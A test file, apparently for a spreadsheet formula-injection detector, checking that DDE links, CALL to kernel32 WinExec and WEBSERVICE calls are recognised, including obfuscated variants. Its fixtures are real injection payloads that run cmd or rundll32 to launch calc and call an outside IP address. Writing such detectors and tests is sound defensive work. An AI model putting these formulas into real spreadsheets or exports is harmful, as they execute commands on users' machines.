import { describe, expect, it } from 'vitest'

import { evaluate } from './evaluate.ts'
import { formulaItems, isFormulaCell } from './items.ts'

const links = (formula: string) =>
  evaluate(formula).actions.map((a) => a.dde && { ...a.dde })

describe('a link of DDE in a formula', () => {
  it.each([
    [`=cmd|'/c calc'!A0`, 'cmd', '/c calc', 'A0'],
    [`=cmd|' /C calc'!'A1'`, 'cmd', ' /C calc', 'A1'],
    [`='cmd'|'/c calc'!A0`, 'cmd', '/c calc', 'A0'],
    [`='cmd|/c calc'!A0`, 'cmd', '/c calc', 'A0'],
    [`@SUM(1+1)*cmd|' /C calc'!A0`, 'cmd', ' /C calc', 'A0'],
    [`=2+5+cmd|'/C calc'!A0`, 'cmd', '/C calc', 'A0'],
    [`+thespanishinquisition(cmd|'/c calc.exe'!A`, 'cmd', '/c calc.exe', 'A'],
    [
      `=AAAA+BBBB-CCCC&"Hello"/12345&cmd|'/c calc.exe'!A`,
      'cmd',
      '/c calc.exe',
      'A',
    ],
    [
      `=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''`,
      'MSEXCEL',
      '\\..\\..\\Windows\\System32\\cmd.exe /c calc',
      undefined,
    ],
    [
      `=rundll32|'URL.dll,OpenURL calc.exe'!A`,
      'rundll32',
      'URL.dll,OpenURL calc.exe',
      'A',
    ],
    ['of:=DDE("cmd";"/c calc";"A0")', 'cmd', '/c calc', 'A0'],
    ['=DDE("c"&"md";CHAR(47)&"c calc";"A0")', 'cmd', '/c calc', 'A0'],
  ])('stands in %s', (formula, service, topic, item) => {
    expect(links(formula)).toEqual([{ service, topic, ...(item && { item }) }])
  })

  it('is none in text, numbers and ordinary formulas', () => {
    for (const formula of [
      '="run cmd | more"',
      '=SUM(B3:B4)',
      "='[book.xlsx]Sheet 1'!A1",
      '=Sheet1!A1&"|"&B2',
      '={1,2;3,4}',
    ]) {
      expect(evaluate(formula).actions, formula).toEqual([])
    }
  })
})

describe('a call in a formula', () => {
  it('has what its pieces come to', () => {
    const [item] = formulaItems(
      '=WEBSERVICE("http://"&A1&CHAR(47)&"x")',
      { position: 'A2' },
      (name) => (name === 'A1' ? '203.0.113.9' : undefined),
    )
    expect(item).toMatchObject({
      text: '=WEBSERVICE("http://203.0.113.9/x")',
      functionName: 'WEBSERVICE',
      target: 'http://203.0.113.9/x',
      obfuscation: expect.arrayContaining(['indirection', 'concatenation']),
    })
  })

  it('ends with what no bracket closes', () => {
    expect(
      evaluate('=CALL("kernel32","WinExec","JCJ","calc",0').actions,
    ).toMatchObject([{ name: 'CALL', target: 'kernel32 WinExec JCJ calc 0' }])
    expect(evaluate(`${'('.repeat(10_000)}1`).actions).toEqual([])
  })
})

it('a cell of text is a formula only if it acts', () => {
  for (const cell of [
    '-5',
    '+49 30 1234',
    '@home',
    '=SUM(A1)',
    '- cmd, /c',
    'a|b!c',
    'run | x',
  ]) {
    expect(isFormulaCell(cell), cell).toBe(false)
  }
  expect(isFormulaCell(`\t=cmd|'/c calc'!A0`)).toBe(true)
})

it('joins what is known where a cell is not', () => {
  const { actions } = evaluate('=WEBSERVICE(CONCATENATE("http://a/?",B2))')
  expect(actions[0]?.target).toBe('http://a/?…')
})
